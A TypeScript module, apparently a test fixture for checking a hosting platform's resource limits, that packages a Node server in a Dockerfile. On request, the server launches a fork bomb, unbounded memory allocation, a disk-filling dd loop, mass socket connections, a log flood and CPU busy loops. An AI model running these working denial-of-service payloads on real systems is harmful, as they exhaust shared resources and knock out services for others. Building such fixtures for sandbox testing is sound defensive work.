/** An app that takes what it can get: `GET /<attack>` begins one, for as long as it runs. */

export const ATTACKS = ["fork", "memory", "disk", "sockets", "log", "cpu"] as const;
export type Attack = (typeof ATTACKS)[number];

const SERVER = `
const { spawn } = require("node:child_process");
const { connect } = require("node:net");
const fs = require("node:fs");
const again = (work) => setImmediate(function next() { work(); setImmediate(next); });
const attacks = {
  // Each child makes two more.
  fork: () => spawn("sh", ["-c", "b() { b | b & b; }; b"], { stdio: "ignore" }),
  memory: () => spawn("node", ["-e", "const all = []; for (;;) all.push(Buffer.alloc(32 << 20, 1));"], { stdio: "ignore" }),
  disk: () => spawn("sh", ["-c", "while :; do dd if=/dev/zero of=/tmp/full bs=1M count=4096; sync; done"], { stdio: "ignore" }),
  sockets: () => { let open = 0; again(() => { if (open++ < 10_000) connect(9, "192.0.2.1").on("error", () => {}); }); },
  log: () => spawn("sh", ["-c", "yes " + "x".repeat(1000)], { stdio: ["ignore", "inherit", "ignore"] }),
  cpu: () => { for (let at = 0; at < 8; at += 1) spawn("node", ["-e", "for (;;);"], { stdio: "ignore" }); },
};
require("node:http").createServer((request, response) => {
  const attack = attacks[request.url.slice(1)];
  if (attack) { try { attack(); } catch {} }
  response.end("ok");
}).listen(process.env.PORT);
process.on("uncaughtException", () => {});
`;

export const ATTACKER: Readonly<Record<string, string>> = {
  Dockerfile: 'FROM node:20\nCOPY server.js ./\nCMD ["node", "server.js"]\n',
  "server.js": SERVER,
};
